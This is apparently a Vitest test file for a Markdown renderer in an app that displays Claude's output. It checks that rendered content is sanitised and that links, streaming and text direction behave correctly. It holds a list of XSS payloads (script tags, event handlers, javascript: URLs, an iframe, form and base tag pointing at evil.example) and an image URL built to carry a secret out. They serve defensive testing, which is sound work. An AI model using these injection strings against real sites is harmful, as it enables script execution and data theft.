// @vitest-environment jsdom
import { render } from "preact";
import { beforeAll, expect, test, vi } from "vitest";
import type { Item } from "../protocol";
import type { Markdown as View, Reader as ItsReader, Rich as Title } from "./markdown";

let Markdown: typeof View;
let Reader: typeof ItsReader;
let Rich: typeof Title;

beforeAll(async () => {
  vi.stubGlobal("matchMedia", () => ({ matches: false, addEventListener: () => undefined }));
  ({ Markdown, Reader, Rich } = await import("./markdown"));
});

function shown(text: string, folder = ""): HTMLElement {
  const box = document.createElement("div");
  render(<Markdown text={text} folder={folder} />, box);
  return box;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "a <script>alert(1)</script> b",
  '<img src=x onerror="alert(1)">',
  'a <img src=x onerror="alert(1)"> b',
  "![x](javascript:alert(1))",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="alert(1)"></svg>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<p style="position:fixed;inset:0">x</p>',
  '<b onmouseover="alert(1)">x</b>',
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<style>body{display:none}</style>",
  "<base href=//evil.example>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "# <iframe srcdoc='<script>alert(1)</script>'>",
  "</div></main><script>alert(1)</script>",
];
const ELEMENTS = new Set(
  "DIV P H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR STRONG EM DEL CODE PRE A SPAN B I U S SUB SUP KBD MARK FIGURE FIGCAPTION BUTTON svg path".split(
    " ",
  ),
);

test.each(HOSTILE)("of %j nothing can run, load or cover the page", (markdown) => {
  for (const element of shown(markdown).querySelectorAll("*")) {
    expect(ELEMENTS).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src|^action$|^formaction$|^id$|^name$/);
      if (name === "href") expect(value).toMatch(/^https?:\/\/|^\/files#\//);
    }
  }
});

test("markup that is not Markdown is shown as the text that it is", () => {
  expect(shown("a <script>alert(1)</script> b").textContent).toBe("a <script>alert(1)</script> b");
});

test("no picture is fetched: its address could carry data out", () => {
  const box = shown("![a cat](https://evil.example/?q=secret)");
  expect(box.querySelector("img")).toBeNull();
  expect(box.querySelector("a")?.textContent).toBe("a cat");
});

test("links lead to the web, in a tab that knows nothing of this one", () => {
  const link = shown("[x](https://ok.example)").querySelector("a");
  expect([link?.href, link?.target, link?.rel]).toEqual(["https://ok.example/", "_blank", "noopener noreferrer"]);
});

test("a link to a file of the workspace opens it, from where the text is", () => {
  const hrefs = (text: string, folder = "") =>
    [...shown(text, folder).querySelectorAll("a")].map((link) => link.getAttribute("href"));
  expect(hrefs("[a](notes.md) [b](./a%20b/c.py:12)")).toEqual(["/files#/notes.md", "/files#/a%20b/c.py"]);
  expect(hrefs("[a](notes.md) [b](../up.md)", "docs")).toEqual(["/files#/docs/notes.md", "/files#/up.md"]);
  expect(hrefs("[a](../out.md) [b](/etc/passwd) [c](#part)")).toEqual([]);
});

test("a picture of the workspace is shown, and is a link to it", () => {
  const picture = shown("![a chart](out/chart.png)").querySelector("a[href='/files#/out/chart.png'] img");
  expect([picture?.getAttribute("src"), picture?.getAttribute("alt")]).toEqual([
    "/api/files/view?path=out%2Fchart.png",
    "a chart",
  ]);
});

test("a name in code leads to its file where Claude had that in hand, and only there", async () => {
  const { touched } = await import("./touched");
  const tool = { kind: "tool", id: "t", at: "", input: { file_path: "a/plan.md" }, status: "done" } as unknown as Item;
  const { named } = await import("./touched");
  vi.spyOn(touched, "value", "get").mockReturnValue(named([tool], ""));
  const links = [...shown("`plan.md`, `a/plan.md` and `node.js`").querySelectorAll("a")];
  expect(links.map((link) => [link.textContent, link.getAttribute("href")])).toEqual([
    ["plan.md", "/files#/a/plan.md"],
    ["a/plan.md", "/files#/a/plan.md"],
  ]);
});

test("Claude's headings stand below the page's own", () => {
  expect(shown("# One\n\n###### Six").innerHTML).toContain('<h2 class="h1" dir="auto">One</h2><h6');
});

test("entities are the characters that they stand for, but not in code", () => {
  expect(shown("a &amp;&nbsp;&copy; `&amp;`").textContent).toBe("a &\u00a0© &amp;");
});

test("plain tags work where they are closed", () => {
  expect(shown("<kbd>Ctrl</kbd> <sub>2</sub> <b>open").innerHTML).toContain(
    "<kbd>Ctrl</kbd> <sub>2</sub> &lt;b&gt;open",
  );
});

test("lists, tasks and tables keep their shape", () => {
  const box = shown("3. a\n4. b\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--:|---|\n| 1 | 2<br>3 |");
  expect(box.querySelector("ol")?.start).toBe(3);
  expect([...box.querySelectorAll(".task .box")].map((one) => one.getAttribute("aria-label"))).toEqual([
    "Done",
    "To do",
  ]);
  expect([box.querySelector("td")?.className, box.querySelectorAll("td br").length]).toEqual(["to-right", 1]);
});

const LONG = `# One

two *three* four

- five
- six

  seven

\`\`\`py
eight

nine
\`\`\`

> ten
> eleven

| a | b |
|---|---|
| 1 | 2 |

twelve`;

test("a text that streams in letter by letter ends as the same text read at once", () => {
  const reader = new Reader();
  let streamed = reader.read("", false);
  for (let end = 1; end <= LONG.length; end++) streamed = reader.read(LONG.slice(0, end), false);
  expect(streamed).toEqual([...new Reader().read(LONG, false)]);
});

test("while a text streams in, blocks that are finished are not read again", () => {
  const reader = new Reader();
  const before = reader.read("one\n\ntwo\n\nthr", false);
  const after = reader.read("one\n\ntwo\n\nthree", false);
  expect([after[0] === before[0], after[1] === before[1], after[2]?.raw]).toEqual([true, true, "three"]);
});

test("a text that was replaced is read from its beginning", () => {
  const reader = new Reader();
  reader.read("one\n\ntwo", false);
  expect(reader.read("else\n\ntwo", false).map((token) => token.raw)).toEqual(["else", "two"]);
});

test("titles show code as code and everything else as text", () => {
  const box = document.createElement("div");
  render(<Rich text="Ran `ls <b>` & <i>more</i>" />, box);
  expect([box.querySelector("code")?.textContent, box.textContent]).toEqual(["ls <b>", "Ran ls <b> & <i>more</i>"]);
});

test("lists and tables are read from where their words are", () => {
  const sides = (text: string) =>
    [...shown(text).querySelectorAll("ul, ol, table")].map((one) => one.getAttribute("dir"));
  expect(sides("- **שלום**\n- b")).toEqual(["rtl"]);
  expect(sides("1. one\n2. مرحبا")).toEqual(["ltr"]);
  expect(sides("| 1 | مبلغ |\n|--|--|\n| 2 | b |")).toEqual(["rtl"]);
});
